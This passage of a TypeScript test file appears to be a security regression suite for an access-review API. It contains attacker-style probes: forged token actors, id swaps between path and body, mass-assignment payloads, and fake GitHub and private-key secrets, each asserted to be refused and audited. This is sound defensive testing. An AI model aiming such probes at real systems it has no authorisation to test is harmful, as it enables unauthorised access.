import { afterAll, beforeAll, describe, expect, it } from "vitest";
import * as campaignById from "@/app/api/reviews/campaigns/[id]/route";
import * as launchRoute from "@/app/api/reviews/campaigns/[id]/launch/route";
import * as previewRoute from "@/app/api/reviews/campaigns/preview/route";
import * as campaigns from "@/app/api/reviews/campaigns/route";
import * as decisionRoute from "@/app/api/reviews/items/[id]/decision/route";
import * as reassignRoute from "@/app/api/reviews/items/[id]/reassign/route";
import * as remediationRoute from "@/app/api/reviews/items/[id]/remediation/route";
import * as rollbackRoute from "@/app/api/reviews/items/[id]/rollback/route";
import * as itemRoute from "@/app/api/reviews/items/[id]/route";
import * as bulkRoute from "@/app/api/reviews/items/bulk-decision/route";
import * as myItems from "@/app/api/reviews/items/route";
import * as remediationList from "@/app/api/reviews/remediation/route";
import * as closeRoute from "@/app/api/reviews/runs/[id]/close/route";
import * as evidenceRoute from "@/app/api/reviews/runs/[id]/evidence/route";
import * as runRoute from "@/app/api/reviews/runs/[id]/route";
import { serveApiRequest } from "@/lib/auth/api-route";
import type { TokenActor, UserActor } from "@/lib/domain/authz/actor";
import { changeEntitlement } from "@/lib/domain/registry/change-entitlement";
import { createCampaign } from "@/lib/domain/reviews/campaigns/create-campaign";
import { closeRun } from "@/lib/domain/reviews/close/close-run";
import { bulkDecide } from "@/lib/domain/reviews/items/bulk-decide";
import { decideItem } from "@/lib/domain/reviews/items/decide-item";
import { getReviewItem } from "@/lib/domain/reviews/items/get-review-item";
import { reassignItem } from "@/lib/domain/reviews/items/reassign-item";
import { DomainError } from "@/lib/domain/shared/errors";
import { createPersonalToken, createServiceToken } from "@/lib/domain/tokens/create-token";
import { TOKEN_SCOPES, scopeProblems } from "@/lib/domain/tokens/token-scopes";
import { makeUser } from "./helpers/actors";
import { DAY, launchTagged, makeIdentity, movableClock } from "./helpers/reviews";
import { createTestDatabase, type TestDatabase } from "./helpers/test-database";

// An attacker's pass over access reviews (issue 9): who may decide, reassign, read and export review items,
// what API tokens may do with them, and what hostile input does. Each probe asserts a property that must hold
// (a refusal, recorded; nothing changed; nothing leaked; never a 5xx) and stays as a regression test.

const clock = movableClock("2026-06-01T12:00:00.000Z");
const deps = { maxDays: 90 };
const ORIGIN = "http://console.test";
const GITHUB = "ghp_Zx8Qk2Lm9Pq4Rt7Vw1Yb3Nc6Hd5Jf0Gs8Ae2K";
let database: TestDatabase;
let db: TestDatabase["prisma"];
let admin: UserActor;
let owner: UserActor;
let backup: UserActor;
let other: UserActor;
let auditor: UserActor;
let sec: UserActor;
let gone: UserActor;
let calls = 0;

beforeAll(async () => {
  database = await createTestDatabase();
  db = database.prisma;
  admin = await makeUser(db, ["admin"]);
  owner = await makeUser(db, ["member"]);
  backup = await makeUser(db, ["member"]);
  other = await makeUser(db, ["member"]);
  auditor = await makeUser(db, ["auditor"]);
  sec = await makeUser(db, ["approver"]);
  gone = await makeUser(db, ["member"], { status: "deactivated" });
});
afterAll(async () => {
  // How many hostile calls this file makes (the attacker's tally; every one asserted).
  console.info(`attack-issue9: ${calls} probe calls`);
  await database.close();
});

type Route = { handler: (ctx: never) => Promise<unknown> };
/** A route module: its handler for each method (and whatever else it exports, like `dynamic`). */
type RouteModule = object;

/** One request through the real route: as a person (session) by default, or with a bearer token. */
async function call(
  mod: RouteModule,
  path: string,
  {
    as = admin,
    token,
    method = "GET",
    body,
    rawBody,
    params = {},
  }: { as?: UserActor; token?: string; method?: string; body?: unknown; rawBody?: string; params?: Record<string, string> } = {},
) {
  calls += 1;
  const route = (mod as Partial<Record<string, Route>>)[method];
  if (!route) throw new Error(`no ${method} handler`);
  const payload = rawBody ?? (body !== undefined ? JSON.stringify(body) : undefined);
  const request = new Request(`${ORIGIN}${path}`, {
    method,
    headers: {
      host: "console.test",
      origin: ORIGIN,
      ...(token !== undefined ? { authorization: `Bearer ${token}` } : {}),
      ...(payload !== undefined ? { "content-type": "application/json" } : {}),
    },
    ...(payload !== undefined ? { body: payload } : {}),
  });
  const { response } = await serveApiRequest(route.handler as Parameters<typeof serveApiRequest>[0], request, params, {
    db,
    clock,
    publicUrl: ORIGIN,
    sessionActor: async () => as,
  });
  const bytes = new Uint8Array(await response.arrayBuffer());
  const text = new TextDecoder().decode(bytes);
  let json: { ok?: boolean; code?: string; data?: Record<string, unknown> } = {};
  if ((response.headers.get("content-type") ?? "").includes("json")) json = JSON.parse(text) as typeof json;
  return { status: response.status, text, bytes, headers: response.headers, body: json };
}

/** A use-case call expected to fail with `code`; counted. */
async function refused(p: Promise<unknown>, code: string, field?: string): Promise<DomainError> {
  calls += 1;
  const error = await p.then(
    () => null,
    (e: unknown) => e,
  );
  expect(error, `expected ${code}`).toBeInstanceOf(DomainError);
  const e = error as DomainError;
  expect(e.code, e.message).toBe(code);
  if (field) expect(Object.keys(e.fieldErrors ?? {}), e.message).toContain(field);
  return e;
}
/** A use-case call expected to succeed; counted. */
async function allowed<T>(p: Promise<T>): Promise<T> {
  calls += 1;
  return p;
}

const deniedCount = (actorId: string, action: string, targetId?: string) =>
  db.auditEvent.count({ where: { actorId, action, outcome: "denied", ...(targetId ? { targetId } : {}) } });

let tagNo = 0;
/**
 * A fresh campaign over two identities of `owner` (backup `backup`), launched. "plain": a read scope in
 * staging; "risky": admin in production, write in production, a staging read, credential expiring in 100 days.
 */
async function launch(fields: Record<string, unknown> = {}, ownerOf = owner) {
  tagNo += 1;
  const tag = `atk9-${tagNo}`;
  const ago = (d: number) => new Date(clock.now().getTime() - d * DAY);
  const ahead = (d: number) => new Date(clock.now().getTime() + d * DAY);
  const plain = await makeIdentity(db, {
    tag,
    name: `${tag}-plain`,
    ownerId: ownerOf.userId,
    backupOwnerId: backup.userId,
    environment: "staging",
    credential: { type: "short_lived_token", issuedAt: ago(3), lastUsedAt: ago(1), expiresAt: ahead(30) },
    scopes: [{ resource: "reports", level: "read" }],
  });
  const risky = await makeIdentity(db, {
    tag,
    name: `${tag}-risky`,
    ownerId: ownerOf.userId,
    backupOwnerId: backup.userId,
    credential: { issuedAt: ago(40), lastUsedAt: ago(1), expiresAt: ahead(100) },
    scopes: [
      { resource: "payments-db", level: "admin", lastUsedAt: ago(1) },
      { resource: "ledger", level: "write", lastUsedAt: ago(1) },
      { resource: "reports", level: "read", environment: "staging", lastUsedAt: ago(1) },
    ],
  });
  const launched = await launchTagged(db, clock, admin, tag, fields);
  const items = await db.reviewItem.findMany({ where: { runId: launched.runId }, include: { scopes: true } });
  const item = (identityId: string) => items.find((i) => i.identityId === identityId)!;
  return { ...launched, tag, plain: item(plain.id), risky: item(risky.id), plainIdentity: plain, riskyIdentity: risky };
}
const scopeOf = <S extends { id: string; resource: string }>(item: { scopes: S[] }, resource: string): S =>
  item.scopes.find((s) => s.resource === resource)!;
const itemRow = (id: string) => db.reviewItem.findUniqueOrThrow({ where: { id }, include: { scopes: true } });

describe("only an assigned reviewer decides", () => {
  it("a member not assigned can neither decide, reassign nor read the item; each refusal is recorded; nothing changes", async () => {
    const { plain } = await launch();
    const before = await itemRow(plain.id);
    await refused(decideItem({ actor: other, db, clock, input: { id: plain.id, decision: "certify" } }), "FORBIDDEN");
    await refused(reassignItem({ actor: other, db, clock, input: { id: plain.id, toUserId: other.userId } }), "FORBIDDEN");
    await refused(getReviewItem({ actor: other, db, clock, input: { id: plain.id } }), "FORBIDDEN");
    expect(await deniedCount(other.userId, "review.decide", plain.id)).toBe(1);
    expect(await deniedCount(other.userId, "review.reassign", plain.id)).toBe(1);
    expect(await deniedCount(other.userId, "review.inbox", plain.id)).toBe(1);
    const res = await call(itemRoute, `/api/reviews/items/${plain.id}`, { as: other, params: { id: plain.id } });
    expect(res.status).toBe(403);
    expect(res.text).not.toContain(plain.name);
    expect(await itemRow(plain.id)).toEqual(before);
  });

  it("the backup owner is refused before escalation adds them, and may decide once the owner passes it on", async () => {
    const { plain } = await launch();
    await refused(decideItem({ actor: backup, db, clock, input: { id: plain.id, decision: "certify" } }), "FORBIDDEN");
    expect((await itemRow(plain.id)).decision).toBeNull();
    const passed = await allowed(decideItem({ actor: owner, db, clock, input: { id: plain.id, decision: "dont_know" } }));
    expect(passed.passedTo).toEqual({ userId: backup.userId, rung: "backup_owner" });
    // The owner, having passed it on, is no longer its reviewer.
    await refused(decideItem({ actor: owner, db, clock, input: { id: plain.id, decision: "certify" } }), "FORBIDDEN");
    // Found by this pass: the backup owner, now its reviewer, could take the identity for themselves through a
    // "transfer" (the registry lets only the owner or an admin hand it on). Refused, naming the field.
    await refused(
      decideItem({
        actor: backup,
        db,
        clock,
        input: { id: plain.id, decision: "transfer", transferToId: backup.userId, decisionReason: "I will take it" },
      }),
      "VALIDATION",
      "transferToId",
    );
    await allowed(decideItem({ actor: backup, db, clock, input: { id: plain.id, decision: "certify" } }));
    expect(await itemRow(plain.id)).toMatchObject({ decision: "certify", decidedById: backup.userId });
  });

  it("an auditor cannot decide (role), and an admin cannot decide an item not assigned to them but may reassign it", async () => {
    const { plain } = await launch();
    await refused(decideItem({ actor: auditor, db, clock, input: { id: plain.id, decision: "certify" } }), "FORBIDDEN");
    await refused(bulkDecide({ actor: auditor, db, clock, input: { ids: [plain.id], decision: "certify" } }), "FORBIDDEN");
    await refused(reassignItem({ actor: auditor, db, clock, input: { id: plain.id, toUserId: other.userId } }), "FORBIDDEN");
    await refused(decideItem({ actor: admin, db, clock, input: { id: plain.id, decision: "certify" } }), "FORBIDDEN");
    expect(await deniedCount(admin.userId, "review.decide", plain.id)).toBe(1);
    const bulk = await allowed(bulkDecide({ actor: admin, db, clock, input: { ids: [plain.id], decision: "certify" } }));
    expect(bulk).toMatchObject({ decided: 0, refused: 1 });
    expect((await itemRow(plain.id)).decision).toBeNull();
    // Through the route too: the admin's session is refused.
    const res = await call(decisionRoute, `/api/reviews/items/${plain.id}/decision`, {
      method: "POST",
      body: { decision: "certify" },
      params: { id: plain.id },
    });
    expect(res.status).toBe(403);
    // Reassigning is the admin's: it never moves a date.
    const run = await db.reviewRun.findUniqueOrThrow({ where: { id: plain.runId } });
    const moved = await allowed(reassignItem({ actor: admin, db, clock, input: { id: plain.id, toUserId: other.userId } }));
    expect(moved.dueAt).toBe(run.dueAt.toISOString());
    expect(await db.reviewRun.findUniqueOrThrow({ where: { id: plain.runId } })).toMatchObject({ dueAt: run.dueAt, endsAt: run.endsAt });
    // The former reviewer has lost it; the new one has it.
    await refused(decideItem({ actor: owner, db, clock, input: { id: plain.id, decision: "certify" } }), "FORBIDDEN");
    await allowed(decideItem({ actor: other, db, clock, input: { id: plain.id, decision: "certify" } }));
  });

  it("the first stage's decider never decides the item in the second, however they come back to it", async () => {
    const { plain, runId } = await launch({
      secondStageItems: "all",
      secondStageReviewerIds: [owner.userId, sec.userId],
      secondStageDays: 5,
    });
    await allowed(decideItem({ actor: owner, db, clock, input: { id: plain.id, decision: "certify" } }));
    await allowed(closeRun({ actor: admin, db, clock, input: { runId } }));
    const staged = await itemRow(plain.id);
    expect(staged).toMatchObject({ stage: 2, firstStageDecidedById: owner.userId, reviewerId: sec.userId });
    expect(staged.extraReviewerIds).not.toContain(owner.userId);
    await refused(decideItem({ actor: owner, db, clock, input: { id: plain.id, decision: "certify" } }), "FORBIDDEN");
    // Handed back to them by an admin: refused.
    await refused(reassignItem({ actor: admin, db, clock, input: { id: plain.id, toUserId: owner.userId } }), "VALIDATION", "toUserId");
    // Added to the item some other way (escalation's extra reviewers): still refused by the policy.
    await db.reviewItem.update({ where: { id: plain.id }, data: { extraReviewerIds: [owner.userId] } });
    await refused(
      decideItem({ actor: owner, db, clock, input: { id: plain.id, decision: "suspend", decisionReason: "x y z" } }),
      "FORBIDDEN",
    );
    const bulk = await allowed(
      bulkDecide({ actor: owner, db, clock, input: { ids: [plain.id], decision: "suspend", decisionReason: "x y z" } }),
    );
    expect(bulk).toMatchObject({ decided: 0, refused: 1 });
    expect((await itemRow(plain.id)).decision).toBeNull();
    await allowed(decideItem({ actor: sec, db, clock, input: { id: plain.id, decision: "certify" } }));
  });

  it("no decision after the stage ends, while the run is closing, or once it is closed", async () => {
    const { plain, risky, runId } = await launch({ durationDays: 5, graceDays: 1, reminderDays: [2], escalationDays: [1] });
    const run = await db.reviewRun.findUniqueOrThrow({ where: { id: runId } });
    // Past endsAt, the job not run yet: a conflict, for the reviewer, single and bulk.
    clock.set(run.endsAt.toISOString());
    try {
      await refused(decideItem({ actor: owner, db, clock, input: { id: plain.id, decision: "certify" } }), "CONFLICT");
      await refused(reassignItem({ actor: owner, db, clock, input: { id: plain.id, toUserId: other.userId } }), "CONFLICT");
      const late = await allowed(bulkDecide({ actor: owner, db, clock, input: { ids: [plain.id], decision: "certify" } }));
      expect(late).toMatchObject({ decided: 0, skipped: 1 });
    } finally {
      clock.set("2026-06-01T12:00:00.000Z");
    }
    await db.reviewRun.update({ where: { id: runId }, data: { status: "closing" } });
    await refused(decideItem({ actor: owner, db, clock, input: { id: plain.id, decision: "certify" } }), "FORBIDDEN");
    await refused(reassignItem({ actor: admin, db, clock, input: { id: plain.id, toUserId: other.userId } }), "FORBIDDEN");
    await db.reviewRun.update({ where: { id: runId }, data: { status: "open" } });
    await allowed(closeRun({ actor: admin, db, clock, input: { runId } }));
    const closed = await db.reviewItem.findMany({ where: { runId } });
    await refused(
      decideItem({ actor: owner, db, clock, input: { id: plain.id, decision: "suspend", decisionReason: "too late" } }),
      "FORBIDDEN",
    );
    const bulk = await allowed(
      bulkDecide({ actor: owner, db, clock, input: { ids: [plain.id, risky.id], decision: "suspend", decisionReason: "too late" } }),
    );
    expect(bulk).toMatchObject({ decided: 0, refused: 2 });
    await refused(closeRun({ actor: admin, db, clock, input: { runId } }), "CONFLICT");
    expect(await db.reviewItem.findMany({ where: { runId } })).toEqual(closed);
  });

  it("the route decides the item in its path, whatever id the body names; a scope of another item is refused", async () => {
    const mine = await launch();
    const theirs = await launch({}, other);
    const res = await call(decisionRoute, `/api/reviews/items/${mine.plain.id}/decision`, {
      as: owner,
      method: "POST",
      body: { id: theirs.plain.id, decision: "certify" },
      params: { id: mine.plain.id },
    });
    expect(res.status).toBe(200);
    expect((await itemRow(mine.plain.id)).decision).toBe("certify");
    expect((await itemRow(theirs.plain.id)).decision).toBeNull();
    // The other way round: the path names their item, the body mine: refused, nothing of theirs changes.
    const swapped = await call(decisionRoute, `/api/reviews/items/${theirs.plain.id}/decision`, {
      as: owner,
      method: "POST",
      body: { id: mine.plain.id, decision: "suspend", decisionReason: "swap" },
      params: { id: theirs.plain.id },
    });
    expect(swapped.status).toBe(403);
    expect((await itemRow(theirs.plain.id)).decision).toBeNull();
    // A scope id of another item (theirs), put on my item's decision.
    const foreign = scopeOf(theirs.risky, "payments-db");
    await refused(
      decideItem({
        actor: owner,
        db,
        clock,
        input: { id: mine.risky.id, decision: "certify", decisionReason: "keep", scopes: [{ id: foreign.id, decision: "revoke" }] },
      }),
      "VALIDATION",
      "scopes.0.id",
    );
    expect((await db.reviewItemScope.findUniqueOrThrow({ where: { id: foreign.id } })).decision).toBeNull();
    // Even mixed with a real scope of mine, the foreign one is not written.
    await refused(
      decideItem({
        actor: owner,
        db,
        clock,
        input: {
          id: mine.risky.id,
          decision: "certify",
          decisionReason: "keep",
          scopes: [
            { id: scopeOf(mine.risky, "ledger").id, decision: "revoke" },
            { id: foreign.id, decision: "revoke" },
          ],
        },
      }),
      "VALIDATION",
    );
    expect((await db.reviewItemScope.findUniqueOrThrow({ where: { id: foreign.id } })).decision).toBeNull();
  });

  it("bulk decide over my ids and others': theirs refused and recorded one by one, nothing of theirs changed", async () => {
    const mine = await launch();
    const theirs = await launch({}, other);
    const theirsBefore = await db.reviewItem.findMany({ where: { runId: theirs.runId }, include: { scopes: true } });
    const unknown = crypto.randomUUID();
    const result = await allowed(
      bulkDecide({
        actor: owner,
        db,
        clock,
        input: {
          ids: [mine.plain.id, mine.risky.id, theirs.plain.id, theirs.risky.id, unknown, mine.plain.id],
          decision: "revoke_risky",
          decisionReason: "cutting privileged access",
        },
      }),
    );
    expect(result).toMatchObject({ matched: 4, decided: 1, skipped: 1, refused: 2, missing: 1 });
    expect(result.refusals.map((r) => r.id).sort()).toEqual([theirs.plain.id, theirs.risky.id].sort());
    expect(await deniedCount(owner.userId, "review.decide", theirs.plain.id)).toBe(1);
    expect(await deniedCount(owner.userId, "review.decide", theirs.risky.id)).toBe(1);
    expect(await db.reviewItem.findMany({ where: { runId: theirs.runId }, include: { scopes: true } })).toEqual(theirsBefore);
    expect(
      (await itemRow(mine.risky.id)).scopes
        .filter((s) => s.decision === "revoke")
        .map((s) => s.resource)
        .sort(),
    ).toEqual(["ledger", "payments-db"]);
  });
});

describe("API tokens against reviews", () => {
  it("every token (personal with every scope it can get, service, agent) is refused each people-only action, recorded", async () => {
    const { plain, runId, campaignId } = await launch();
    const adminScopes = TOKEN_SCOPES.filter((s) => scopeProblems([s], [{ who: "admin", person: admin }], "personal").length === 0);
    const ownerScopes = TOKEN_SCOPES.filter((s) => scopeProblems([s], [{ who: "owner", person: owner }], "personal").length === 0);
    const service = (kind: "service" | "agent") =>
      createServiceToken(deps)({
        actor: admin,
        db,
        clock,
        input: { name: `${kind}-probe`, purpose: "Attack probes", kind, ownerId: owner.userId, scopes: ownerScopes },
      });
    const tokens = [
      await createPersonalToken(deps)({
        actor: admin,
        db,
        clock,
        input: { name: "admin-all", purpose: "Attack probes", scopes: adminScopes },
      }),
      await createPersonalToken(deps)({
        actor: owner,
        db,
        clock,
        input: { name: "owner-all", purpose: "Attack probes", scopes: ownerScopes },
      }),
      await service("service"),
      await service("agent"),
    ];
    // No token can even hold a people-only review action.
    for (const scope of ["review.decide", "review.reassign", "review.manage", "review.launch", "review.close", "review.rollback"]) {
      calls += 1;
      await expect(
        createPersonalToken(deps)({ actor: admin, db, clock, input: { name: "x", purpose: "Attack probes", scopes: [scope] } }),
      ).rejects.toMatchObject({ code: "VALIDATION" });
    }
    const campaign = await db.reviewCampaign.findUniqueOrThrow({ where: { id: campaignId } });
    for (const { token, secret } of tokens) {
      const probes: [RouteModule, string, Record<string, string>, unknown, string][] = [
        [decisionRoute, `/api/reviews/items/${plain.id}/decision`, { id: plain.id }, { decision: "certify" }, "review.decide"],
        [bulkRoute, "/api/reviews/items/bulk-decision", {}, { ids: [plain.id], decision: "certify" }, "review.decide"],
        [reassignRoute, `/api/reviews/items/${plain.id}/reassign`, { id: plain.id }, { toUserId: other.userId }, "review.reassign"],
        [launchRoute, `/api/reviews/campaigns/${campaignId}/launch`, { id: campaignId }, undefined, "review.launch"],
        [closeRoute, `/api/reviews/runs/${runId}/close`, { id: runId }, undefined, "review.close"],
        [campaigns, "/api/reviews/campaigns", {}, { name: "token campaign", scope: { tag: "x" } }, "review.manage"],
        [campaignById, `/api/reviews/campaigns/${campaignId}`, { id: campaignId }, { name: "renamed by token" }, "review.manage"],
        [rollbackRoute, `/api/reviews/items/${plain.id}/rollback`, { id: plain.id }, { reason: "undo by token" }, "review.rollback"],
      ];
      for (const [mod, path, params, body, action] of probes) {
        const method = mod === campaignById ? "PATCH" : "POST";
        const res = await call(mod, path, { token: secret, method, body, params });
        expect(res.status, `${token.kind} ${token.name} ${action}`).toBe(403);
        expect(await deniedCount(token.id, action), `${token.kind} ${action} recorded`).toBeGreaterThan(0);
      }
    }
    expect(await itemRow(plain.id)).toMatchObject({ decision: null, reviewerId: owner.userId });
    expect(await db.reviewRun.findUniqueOrThrow({ where: { id: runId } })).toMatchObject({ status: "open" });
    expect(await db.reviewRun.count({ where: { campaignId } })).toBe(1);
    expect(await db.reviewCampaign.findUniqueOrThrow({ where: { id: campaignId } })).toEqual(campaign);
    expect(await db.reviewCampaign.count({ where: { name: "token campaign" } })).toBe(0);
  });

  it("a token whose scopes were forged to hold people-only actions is still refused by the policy", async () => {
    const { plain } = await launch();
    const forged: TokenActor = {
      type: "token",
      tokenId: crypto.randomUUID(),
      tokenKind: "personal",
      label: "nhic_forged00 (forged)",
      scopes: ["review.decide", "review.reassign", "review.close", "review.rollback"],
      owner: { userId: owner.userId, email: owner.email, name: owner.name, roles: owner.roles },
      request: owner.request,
    };
    await refused(decideItem({ actor: forged, db, clock, input: { id: plain.id, decision: "certify" } }), "FORBIDDEN");
    await refused(bulkDecide({ actor: forged, db, clock, input: { ids: [plain.id], decision: "certify" } }), "FORBIDDEN");
    await refused(reassignItem({ actor: forged, db, clock, input: { id: plain.id, toUserId: other.userId } }), "FORBIDDEN");
    expect((await itemRow(plain.id)).decision).toBeNull();
  });

  it("review.remediate: an admin's token with the scope may report, without it is refused (recorded); a member cannot get it", async () => {
    const { plain, runId } = await launch({ applyMode: "as_decided" });
    await allowed(
      decideItem({
        actor: owner,
        db,
        clock,
        input: {
          id: plain.id,
          decision: "certify",
          decisionReason: "not needed",
          scopes: [{ id: scopeOf(plain, "reports").id, decision: "revoke" }],
        },
      }),
    );
    expect(await itemRow(plain.id)).toMatchObject({ remediationStatus: "open" });
    const withScope = await createPersonalToken(deps)({
      actor: admin,
      db,
      clock,
      input: { name: "rem", purpose: "IAM sync", scopes: ["review.remediate"] },
    });
    const without = await createPersonalToken(deps)({
      actor: admin,
      db,
      clock,
      input: { name: "norem", purpose: "IAM sync", scopes: ["review.list"] },
    });
    const path = `/api/reviews/items/${plain.id}/remediation`;
    const no = await call(remediationRoute, path, {
      token: without.secret,
      method: "POST",
      body: { status: "done" },
      params: { id: plain.id },
    });
    expect(no.status).toBe(403);
    expect(await deniedCount(without.token.id, "review.remediate")).toBe(1);
    expect(await itemRow(plain.id)).toMatchObject({ remediationStatus: "open" });
    const yes = await call(remediationRoute, path, {
      token: withScope.secret,
      method: "POST",
      body: { status: "done", note: "revoked in IAM" },
      params: { id: plain.id },
    });
    expect(yes.status).toBe(200);
    expect(await itemRow(plain.id)).toMatchObject({ remediationStatus: "done", remediationNote: "revoked in IAM" });
    // The remediation token may not roll back or close.
    const back = await call(rollbackRoute, `/api/reviews/items/${plain.id}/rollback`, {
      token: withScope.secret,
      method: "POST",
      body: { reason: "undo it" },
      params: { id: plain.id },
    });
    expect(back.status).toBe(403);
    expect(
      (await call(closeRoute, `/api/reviews/runs/${runId}/close`, { token: withScope.secret, method: "POST", params: { id: runId } }))
        .status,
    ).toBe(403);
    // A member's token cannot hold the scope; a member's session cannot report either.
    calls += 1;
    await expect(
      createPersonalToken(deps)({ actor: owner, db, clock, input: { name: "x", purpose: "IAM sync", scopes: ["review.remediate"] } }),
    ).rejects.toMatchObject({ code: "VALIDATION" });
    const member = await call(remediationRoute, path, { as: owner, method: "POST", body: { status: "failed" }, params: { id: plain.id } });
    expect(member.status).toBe(403);
    expect(await itemRow(plain.id)).toMatchObject({ remediationStatus: "done" });
  });
});

describe("reading items, runs and evidence", () => {
  it("GET item: its reviewer, an admin and an auditor read it; anyone else is refused and recorded", async () => {
    const { plain } = await launch();
    const path = `/api/reviews/items/${plain.id}`;
    for (const [who, status] of [
      [owner, 200],
      [admin, 200],
      [auditor, 200],
      [other, 403],
      [backup, 403],
      [sec, 403],
    ] as const) {
      const res = await call(itemRoute, path, { as: who, params: { id: plain.id } });
      expect(res.status, who.email).toBe(status);
      if (status === 403) expect(await deniedCount(who.userId, "review.inbox", plain.id)).toBeGreaterThan(0);
    }
    // A member's token with review.inbox reads only what its owner may.
    const token = await createPersonalToken(deps)({
      actor: other,
      db,
      clock,
      input: { name: "inbox", purpose: "Attack probes", scopes: ["review.inbox"] },
    });
    expect((await call(itemRoute, path, { token: token.secret, params: { id: plain.id } })).status).toBe(403);
    // My inbox never lists someone else's item, whatever its filter names.
    const list = await call(myItems, `/api/reviews/items?run=${plain.runId}&pageSize=200`, { as: other });
    expect(list.status).toBe(200);
    expect(list.text).not.toContain(plain.id);
  });

  it("GET run and evidence: members refused (recorded); an auditor reads and exports, the export recorded", async () => {
    const { runId, plain } = await launch();
    for (const who of [owner, other, sec]) {
      const run = await call(runRoute, `/api/reviews/runs/${runId}`, { as: who, params: { id: runId } });
      expect(run.status).toBe(403);
      const csv = await call(evidenceRoute, `/api/reviews/runs/${runId}/evidence?format=csv`, { as: who, params: { id: runId } });
      expect(csv.status).toBe(403);
      expect(csv.text).not.toContain(plain.name);
      expect(await deniedCount(who.userId, "review.export")).toBeGreaterThan(0);
      const remediation = await call(remediationList, `/api/reviews/remediation?runId=${runId}`, { as: who });
      expect(remediation.status).toBe(403);
      const campaignList = await call(campaigns, "/api/reviews/campaigns", { as: who });
      expect(campaignList.status).toBe(403);
    }
    expect((await call(runRoute, `/api/reviews/runs/${runId}`, { as: auditor, params: { id: runId } })).status).toBe(200);
    const csv = await call(evidenceRoute, `/api/reviews/runs/${runId}/evidence?format=csv`, { as: auditor, params: { id: runId } });
    expect(csv.status).toBe(200);
    expect(csv.text).toContain(plain.name);
    expect(
      await db.auditEvent.count({ where: { actorId: auditor.userId, action: "review.export", outcome: "allowed", targetId: runId } }),
    ).toBe(1);
    // The auditor changes nothing.
    for (const [mod, path, params, body] of [
      [closeRoute, `/api/reviews/runs/${runId}/close`, { id: runId }, undefined],
      [decisionRoute, `/api/reviews/items/${plain.id}/decision`, { id: plain.id }, { decision: "certify" }],
      [reassignRoute, `/api/reviews/items/${plain.id}/reassign`, { id: plain.id }, { toUserId: auditor.userId }],
      [remediationRoute, `/api/reviews/items/${plain.id}/remediation`, { id: plain.id }, { status: "done" }],
      [rollbackRoute, `/api/reviews/items/${plain.id}/rollback`, { id: plain.id }, { reason: "auditor undo" }],
      [campaigns, "/api/reviews/campaigns", {}, { name: "auditor campaign" }],
      [previewRoute, "/api/reviews/campaigns/preview", {}, { campaign: { name: "x" } }],
    ] as [RouteModule, string, Record<string, string>, unknown][]) {
      const res = await call(mod, path, { as: auditor, method: "POST", body, params });
      expect(res.status, path).toBe(403);
    }
    expect(await db.reviewRun.findUniqueOrThrow({ where: { id: runId } })).toMatchObject({ status: "open" });
  });
});

describe("mass assignment", () => {
  it("fields a decision body may not set are never written (reviewer, outcome, remediation, applied, decider, stage)", async () => {
    const { plain, risky } = await launch();
    const res = await call(decisionRoute, `/api/reviews/items/${plain.id}/decision`, {
      as: owner,
      method: "POST",
      params: { id: plain.id },
      body: {
        decision: "certify",
        reviewerId: other.userId,
        extraReviewerIds: [other.userId],
        outcome: "kept",
        remediationStatus: "done",
        remediationNote: "pwned",
        appliedAt: "2026-01-01T00:00:00Z",
        rolledBackAt: "2026-01-01T00:00:00Z",
        decidedById: other.userId,
        decidedAt: "2020-01-01T00:00:00Z",
        stage: 2,
        firstStageDecidedById: other.userId,
        runId: risky.runId,
        identityId: risky.identityId,
        version: 99,
        scopes: [{ id: scopeOf(plain, "reports").id, decision: "keep", risky: true, level: "admin", entitlementId: crypto.randomUUID() }],
      },
    });
    expect(res.status).toBe(200);
    const row = await itemRow(plain.id);
    expect(row).toMatchObject({
      decision: "certify",
      reviewerId: owner.userId,
      extraReviewerIds: [],
      outcome: null,
      remediationStatus: plain.remediationStatus,
      remediationNote: null,
      appliedAt: null,
      rolledBackAt: null,
      decidedById: owner.userId,
      stage: 1,
      firstStageDecidedById: null,
      identityId: plain.identityId,
      version: plain.version + 1,
    });
    expect(row.decidedAt?.toISOString()).toBe(clock.now().toISOString());
    expect(row.scopes[0]).toMatchObject({ decision: "keep", risky: false, level: "read", entitlementId: plain.scopes[0]!.entitlementId });

    const bulk = await allowed(
      bulkDecide({
        actor: owner,
        db,
        clock,
        input: {
          ids: [plain.id],
          decision: "certify",
          reviewerId: other.userId,
          outcome: "decommissioned",
          appliedAt: new Date(),
        } as never,
      }),
    );
    expect(bulk.decided).toBe(1);
    expect(await itemRow(plain.id)).toMatchObject({ reviewerId: owner.userId, outcome: null, appliedAt: null });
  });

  it("fields a campaign body may not set are never written (id, creator, status, dates, version)", async () => {
    const id = crypto.randomUUID();
    const res = await call(campaigns, "/api/reviews/campaigns", {
      method: "POST",
      body: {
        name: "Mass assignment probe",
        scope: { tag: "none-such" },
        id,
        createdById: other.userId,
        createdAt: "2001-01-01T00:00:00Z",
        version: 42,
        nextRunAt: "2001-01-01T00:00:00Z",
        status: "archived",
      },
    });
    expect(res.status).toBe(200);
    const created = await db.reviewCampaign.findUniqueOrThrow({ where: { id: (res.body.data as { id: string }).id } });
    expect(created.id).not.toBe(id);
    expect(created).toMatchObject({ createdById: admin.userId, version: 1 });
    expect(created.createdAt.getUTCFullYear()).not.toBe(2001);
    expect(created).toMatchObject({ status: "active", nextRunAt: null });
    const patched = await call(campaignById, `/api/reviews/campaigns/${created.id}`, {
      method: "PATCH",
      params: { id: created.id },
      body: { description: "changed", campaignId: crypto.randomUUID(), createdById: other.userId, version: 7, id: crypto.randomUUID() },
    });
    expect(patched.status).toBe(200);
    const after = await db.reviewCampaign.findUniqueOrThrow({ where: { id: created.id } });
    expect(after).toMatchObject({ description: "changed", createdById: admin.userId, version: 2 });
  });
});

describe("hostile text", () => {
  it("a secret in a reason, a campaign name or description is refused and never reaches the audit log", async () => {
    const { plain, risky } = await launch();
    for (const input of [
      { id: plain.id, decision: "certify", decisionReason: `old key ${GITHUB}` },
      {
        id: risky.id,
        decision: "suspend",
        decisionReason: `-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----`,
      },
    ])
      await refused(decideItem({ actor: owner, db, clock, input }), "VALIDATION", "decisionReason");
    await refused(
      bulkDecide({ actor: owner, db, clock, input: { ids: [plain.id], decision: "suspend", decisionReason: `token ${GITHUB}` } }),
      "VALIDATION",
      "decisionReason",
    );
    await refused(
      reassignItem({ actor: owner, db, clock, input: { id: plain.id, toUserId: other.userId, reason: GITHUB } }),
      "VALIDATION",
      "reason",
    );
